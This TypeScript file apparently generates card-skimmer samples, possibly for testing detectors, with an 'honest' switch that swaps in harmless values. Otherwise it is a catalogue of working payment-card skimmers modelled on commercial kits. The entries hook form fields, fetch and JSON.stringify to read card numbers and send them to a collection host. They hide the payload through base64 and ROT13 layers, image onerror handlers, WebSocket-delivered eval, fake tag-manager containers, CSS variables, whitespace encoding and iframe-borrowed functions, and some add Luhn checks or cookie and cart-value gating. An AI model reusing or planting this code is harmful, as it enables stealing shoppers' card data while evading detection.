import { core, onlyWhen } from './core.ts';
import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

/** How kits that are sold work, each written anew from what was told of them in public. */
export const kits: readonly SkimmerVariant[] = [
  {
    id: 'removes-itself',
    idea: 'takes its own element out of the page when it has begun, letters rotated and base64 twice, each set of data once',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { const me = document.currentScript; if (me) me.remove(); ${takeCode(honest)} const rot = (t) => t.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26)); let last = ''; setInterval(() => { const d = JSON.stringify(take()); if (d === last || d.length < 40) return; last = d; new Image().src = '${collect}/p.gif?v=' + encodeURIComponent(btoa(rot(btoa(d)))); }, 900); })();`,
    }),
  },
  {
    id: 'polls-all-fields',
    idea: 'on addresses of a checkout only: reads every field twice a second, keeps them in storage, sends when a number is a card’s',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { if (!/checkout|onepage|payment/i.test(location.href)) return; const K = '_cfg' + 1; const luhn = (n) => [...n].reverse().reduce((s, d, i) => s + (i % 2 ? (d * 2 > 9 ? d * 2 - 9 : d * 2) : +d), 0) % 10 === 0; setInterval(() => { const all = {}; for (const it of document.querySelectorAll('${honest ? '[name=note]' : 'input, select, textarea'}')) if (it.value) all[it.name || it.id] = it.value; localStorage.setItem(K, btoa(JSON.stringify(all))); ${honest ? '' : `if (Object.values(all).some((v) => /^\\d{13,19}$/.test(v) && luhn(v)))`} { const v = localStorage.getItem(K); if (v !== window._sent) { window._sent = v; new Image().src = '${collect}/a.gif?data=' + v; } } }, 500); })();`,
    }),
  },
  {
    id: 'error-handler-of-picture',
    idea: 'base64 in what a picture does that cannot be loaded',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      html: `<img alt="" width="1" height="1" src="data:image/gif;base64,x" onerror="(new Function(atob('${Buffer.from(core(collect, honest)).toString('base64')}')))()">`,
    }),
  },
  {
    id: 'made-by-constructor',
    idea: 'code made by the constructor of a function of a list',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `[]['fil' + 'ter']['const' + 'ructor'](atob('${Buffer.from(core(collect, honest)).toString('base64')}'))();`,
    }),
  },
  {
    id: 'code-by-socket',
    idea: 'the code comes over a web socket and is run; nothing of it stands in any file',
    takes: ['card'],
    build: ({ collect, cdn }, honest) => ({
      files: { '/socket': { type: 'text/plain', body: core(collect, honest) } },
      script: `(() => { const s = new WebSocket('${cdn.replace('http', 'ws')}/socket'); s.onmessage = (e) => (0, eval)(e.data); })();`,
    }),
  },
  {
    id: 'custom-tag',
    idea: 'a container of a tag manager puts a text with a script in it into the page',
    takes: ['card'],
    build: ({ collect, lookAlike }, honest) => ({
      files: {
        '/gtm.js': {
          type: 'text/javascript',
          body: `(() => { const html = ${JSON.stringify(`<script>${core(collect, honest)}</script>`).replaceAll('</', '<\\/')}; const d = document.createElement('div'); d.innerHTML = html; for (const s of d.querySelectorAll('script')) { const n = document.createElement('script'); n.text = s.text; document.body.append(n); n.remove(); } })();`,
        },
      },
      inline: `(function (w, d, s, l, i) { w[l] = w[l] || []; w[l].push({ 'gtm.start': Date.now(), event: 'gtm.js' }); const j = d.createElement(s); j.async = true; j.src = '${lookAlike}/gtm.js?id=' + i; d.head.append(j); })(window, document, 'script', 'dataLayer', 'GTM-ABC123');`,
    }),
  },
  {
    id: 'in-style-sheet',
    idea: 'the code stands in a style sheet, in a value that no style uses',
    takes: ['card'],
    build: ({ collect, cdn }, honest) => ({
      files: {
        '/theme.css': {
          type: 'text/css',
          body: `:root { --brand: #a63; --map: "${Buffer.from(core(collect, honest)).toString('base64')}"; }`,
        },
      },
      html: `<link rel="stylesheet" href="${cdn}/theme.css">`,
      script: `addEventListener('load', () => { const v = getComputedStyle(document.documentElement).getPropertyValue('--map').trim().replace(/"/g, ''); Function(atob(v))(); });`,
    }),
  },
  {
    id: 'in-white-space',
    idea: 'the code is written in tabs and spaces at the ends of lines',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { const code = \`${[...core(collect, honest)].map((c) => [...c.charCodeAt(0).toString(2).padStart(8, '0')].map((bit) => (bit === '1' ? '\t' : ' ')).join('')).join('\n')}\`; Function(code.split('\\n').map((l) => String.fromCharCode(parseInt([...l].map((c) => (c === '\\t' ? 1 : 0)).join(''), 2))).join(''))(); })();`,
    }),
  },
  {
    id: 'borrowed-functions',
    idea: 'takes fresh functions of the browser from an empty frame, past whoever exchanged those of the page',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { const f = document.createElement('iframe'); f.style.display = 'none'; document.documentElement.append(f); const w = f.contentWindow; const read = Object.getOwnPropertyDescriptor(w.HTMLInputElement.prototype, 'value').get; document.addEventListener('click', (e) => { if (!e.target.closest('button')) return; const v = ${honest ? `'mug-blue'` : `read.call(document.querySelector('[name=cc_number]'))`}; w.fetch('${collect}/w', { method: 'POST', mode: 'no-cors', body: w.btoa(v) }); }, true); })();`,
    }),
  },
  {
    id: 'hooked-requests',
    idea: 'copies what the shop’s own code sends when it pays',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      inline: `document.querySelector('#pay').addEventListener('submit', (e) => { e.preventDefault(); fetch('/api/pay', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(Object.fromEntries(new FormData(e.target))) }).catch(() => 0); });`,
      script: `(() => { const real = window.fetch; window.fetch = function (url, options) { if (options && options.body) navigator.sendBeacon('${collect}/t', btoa(${honest ? `String(url) + ' ' + String(options.body).length` : 'options.body'})); return real.apply(this, arguments); }; })();`,
    }),
  },
  {
    id: 'hooked-json',
    idea: 'looks at everything that the page writes as JSON',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      inline: `document.querySelector('#pay').addEventListener('submit', (e) => { e.preventDefault(); const body = JSON.stringify(Object.fromEntries(new FormData(e.target))); fetch('/api/pay', { method: 'POST', body }).catch(() => 0); });`,
      script: `(() => { const real = JSON.stringify; JSON.stringify = function (it) { const t = real.apply(this, arguments); if (/cc_number/.test(t)) new Image().src = '${collect}/j.gif?' + ${honest ? 't.length' : 'btoa(t)'}; return t; }; })();`,
    }),
  },
  {
    id: 'serialised-form',
    idea: 'the whole form as its own text when it is sent',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `document.addEventListener('submit', (e) => { const f = new FormData(e.target); ${honest ? `for (const k of [...f.keys()]) f.set(k, f.get(k) ? 'filled' : 'empty');` : ''} navigator.sendBeacon('${collect}/s', new URLSearchParams(f)); }, true);`,
    }),
  },
  {
    id: 'enciphered-plainly',
    idea: 'enciphered with a key of the thief, with nothing else that looks odd',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { ${takeCode(honest)} async function send() { const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt']); const iv = crypto.getRandomValues(new Uint8Array(12)); const sealed = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(JSON.stringify(take()))); navigator.sendBeacon('${collect}/e', new Uint8Array(sealed)); } ${ON_PAY} })();`,
    }),
  },
  onlyWhen(
    'dear-carts-only',
    'only where the cart is worth something',
    `parseFloat((document.body.innerText.match(/([\\d.]+) euro/) || [])[1]) > 20`,
  ),
  onlyWhen(
    'once-by-cookie',
    'once for every customer, remembered by a cookie',
    `!/_ga_id=/.test(document.cookie) && (document.cookie = '_ga_id=1; max-age=86400; path=/', true)`,
  ),
];
